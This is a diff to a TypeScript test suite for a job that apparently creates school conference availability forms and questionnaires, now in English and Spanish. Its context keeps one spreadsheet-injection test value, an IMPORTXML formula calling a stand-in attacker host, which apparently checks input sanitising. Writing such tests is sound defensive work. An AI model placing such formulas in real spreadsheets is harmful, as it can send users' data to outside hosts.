@@ -24,6 +24,8 @@ const Q = {
   comments: 'Anything else you would like to tell us?',
   code: 'Conference code',
 };
+/** The availability form and the questionnaire, in English and in Spanish. */
+const FORMS = 4;
 const HOSTILE = '=IMPORTXML("https://evil.example","//a")';
 
 interface FormsState {
@@ -107,13 +109,14 @@ describe('the forms job', () => {
     expect(first.message).toContain('Created the availability form');
     run(s, 'forms');
     run(s, 'forms');
-    expect(s.emulator.forms.forms()).toHaveLength(2);
+    // Both forms in English, and again in Spanish: the sample Roster has Spanish-speaking families.
+    expect(s.emulator.forms.forms()).toHaveLength(FORMS);
     expect(s.emulator.triggers.triggers.filter((t) => t.event === 'ON_FORM_SUBMIT')).toHaveLength(
       1,
     );
     expect(
       s.emulator.spreadsheet.sheets.filter((x) => x.name.startsWith('Form Responses')),
-    ).toHaveLength(2);
+    ).toHaveLength(FORMS);
     // Families never see a summary of other families' answers; they may edit their own.
     for (const f of s.emulator.forms.forms())
       expect(f).toMatchObject({
@@ -131,7 +134,7 @@ describe('the forms job', () => {
     expect(s.emulator.ws.clock.now()).toBeGreaterThan(FORMS_UNPUBLISHED_FROM);
     const done = run(s, 'forms');
     expect(done.done).toBe(true);
-    expect(s.emulator.forms.forms()).toHaveLength(2);
+    expect(s.emulator.forms.forms()).toHaveLength(FORMS);
     for (const f of s.emulator.forms.forms()) expect(f.published).toBe(true);
     const [familyId, link] = [...familyLinks(s)][0]!;
     const [first] = formsState(s).availability.choices;
@@ -166,18 +169,24 @@ describe('the forms job', () => {
     const total = probe.emulator.ws.callCount - start;
     for (let k = 0; k < total; k += 2) {
       const s = school();
-      cutOffAt(s.emulator.ws, k, () => s.bundle.callFromClient('runJob', ['forms']));
+      // The job takes several executions (a form per language): the cut may fall in any.
+      cutOffAt(s.emulator.ws, k, () => {
+        for (let i = 0; i < 20; i++)
+          if (ok<JobProgress>(s.bundle.callFromClient('runJob', ['forms'])).done) break;
+      });
       run(s, 'forms');
       const linked = s.emulator.forms.forms().filter((f) => f.destination);
       expect(linked.map((f) => f.title.replace(/.*: /, '')).sort()).toEqual([
         'how did the Fall conference go?',
         'when can you come to the student-led conference?',
+        '¿cuándo pueden venir a la conferencia dirigida por su hijo?',
+        '¿cómo fue la conferencia (Fall)?',
       ]);
       // Apps Script has no transaction: cut between FormApp.create and saving its id, that form is left empty and unlinked.
-      expect(s.emulator.forms.forms().length).toBeLessThanOrEqual(3);
+      expect(s.emulator.forms.forms().length).toBeLessThanOrEqual(FORMS + 1);
       expect(
         s.emulator.spreadsheet.sheets.filter((x) => x.name.startsWith('Form Responses')),
-      ).toHaveLength(2);
+      ).toHaveLength(FORMS);
       expect(s.emulator.triggers.triggers).toHaveLength(1);
       expect(familyLinks(s).size).toBe(familyLinks(probe).size);
     }
@@ -195,10 +204,10 @@ describe('the forms job', () => {
     expect(failed.ok).toBe(false);
     if (!failed.ok) expect(failed.error.message).toContain('Service error: Forms');
     run(s, 'forms');
-    expect(s.emulator.forms.forms()).toHaveLength(2);
+    expect(s.emulator.forms.forms()).toHaveLength(FORMS);
     expect(
       s.emulator.spreadsheet.sheets.filter((x) => x.name.startsWith('Form Responses')),
-    ).toHaveLength(2);
+    ).toHaveLength(FORMS);
   });
 
   it('a form deleted in Drive is made again, once', () => {
@@ -209,7 +218,7 @@ describe('the forms job', () => {
     run(s, 'forms');
     run(s, 'forms');
     expect(formsState(s).availability.formId).not.toBe(gone);
-    expect(s.emulator.forms.forms().filter((f) => f.id !== gone)).toHaveLength(2);
+    expect(s.emulator.forms.forms().filter((f) => f.id !== gone)).toHaveLength(FORMS);
   });
 
   it('on a day Google is twenty times slower, stops in time and finishes in the next executions, each under six minutes', () => {
@@ -222,7 +231,7 @@ describe('the forms job', () => {
     expect(runs.every((r) => !r.terminated && r.elapsedMs < 6 * 60_000)).toBe(true);
     expect(done.message).toContain('Created the availability form.');
     expect(done.message).toContain('Created the Fall questionnaire.');
-    expect(s.emulator.forms.forms()).toHaveLength(2);
+    expect(s.emulator.forms.forms()).toHaveLength(FORMS);
     expect(s.emulator.triggers.triggers.filter((t) => t.event === 'ON_FORM_SUBMIT')).toHaveLength(
       1,
     );
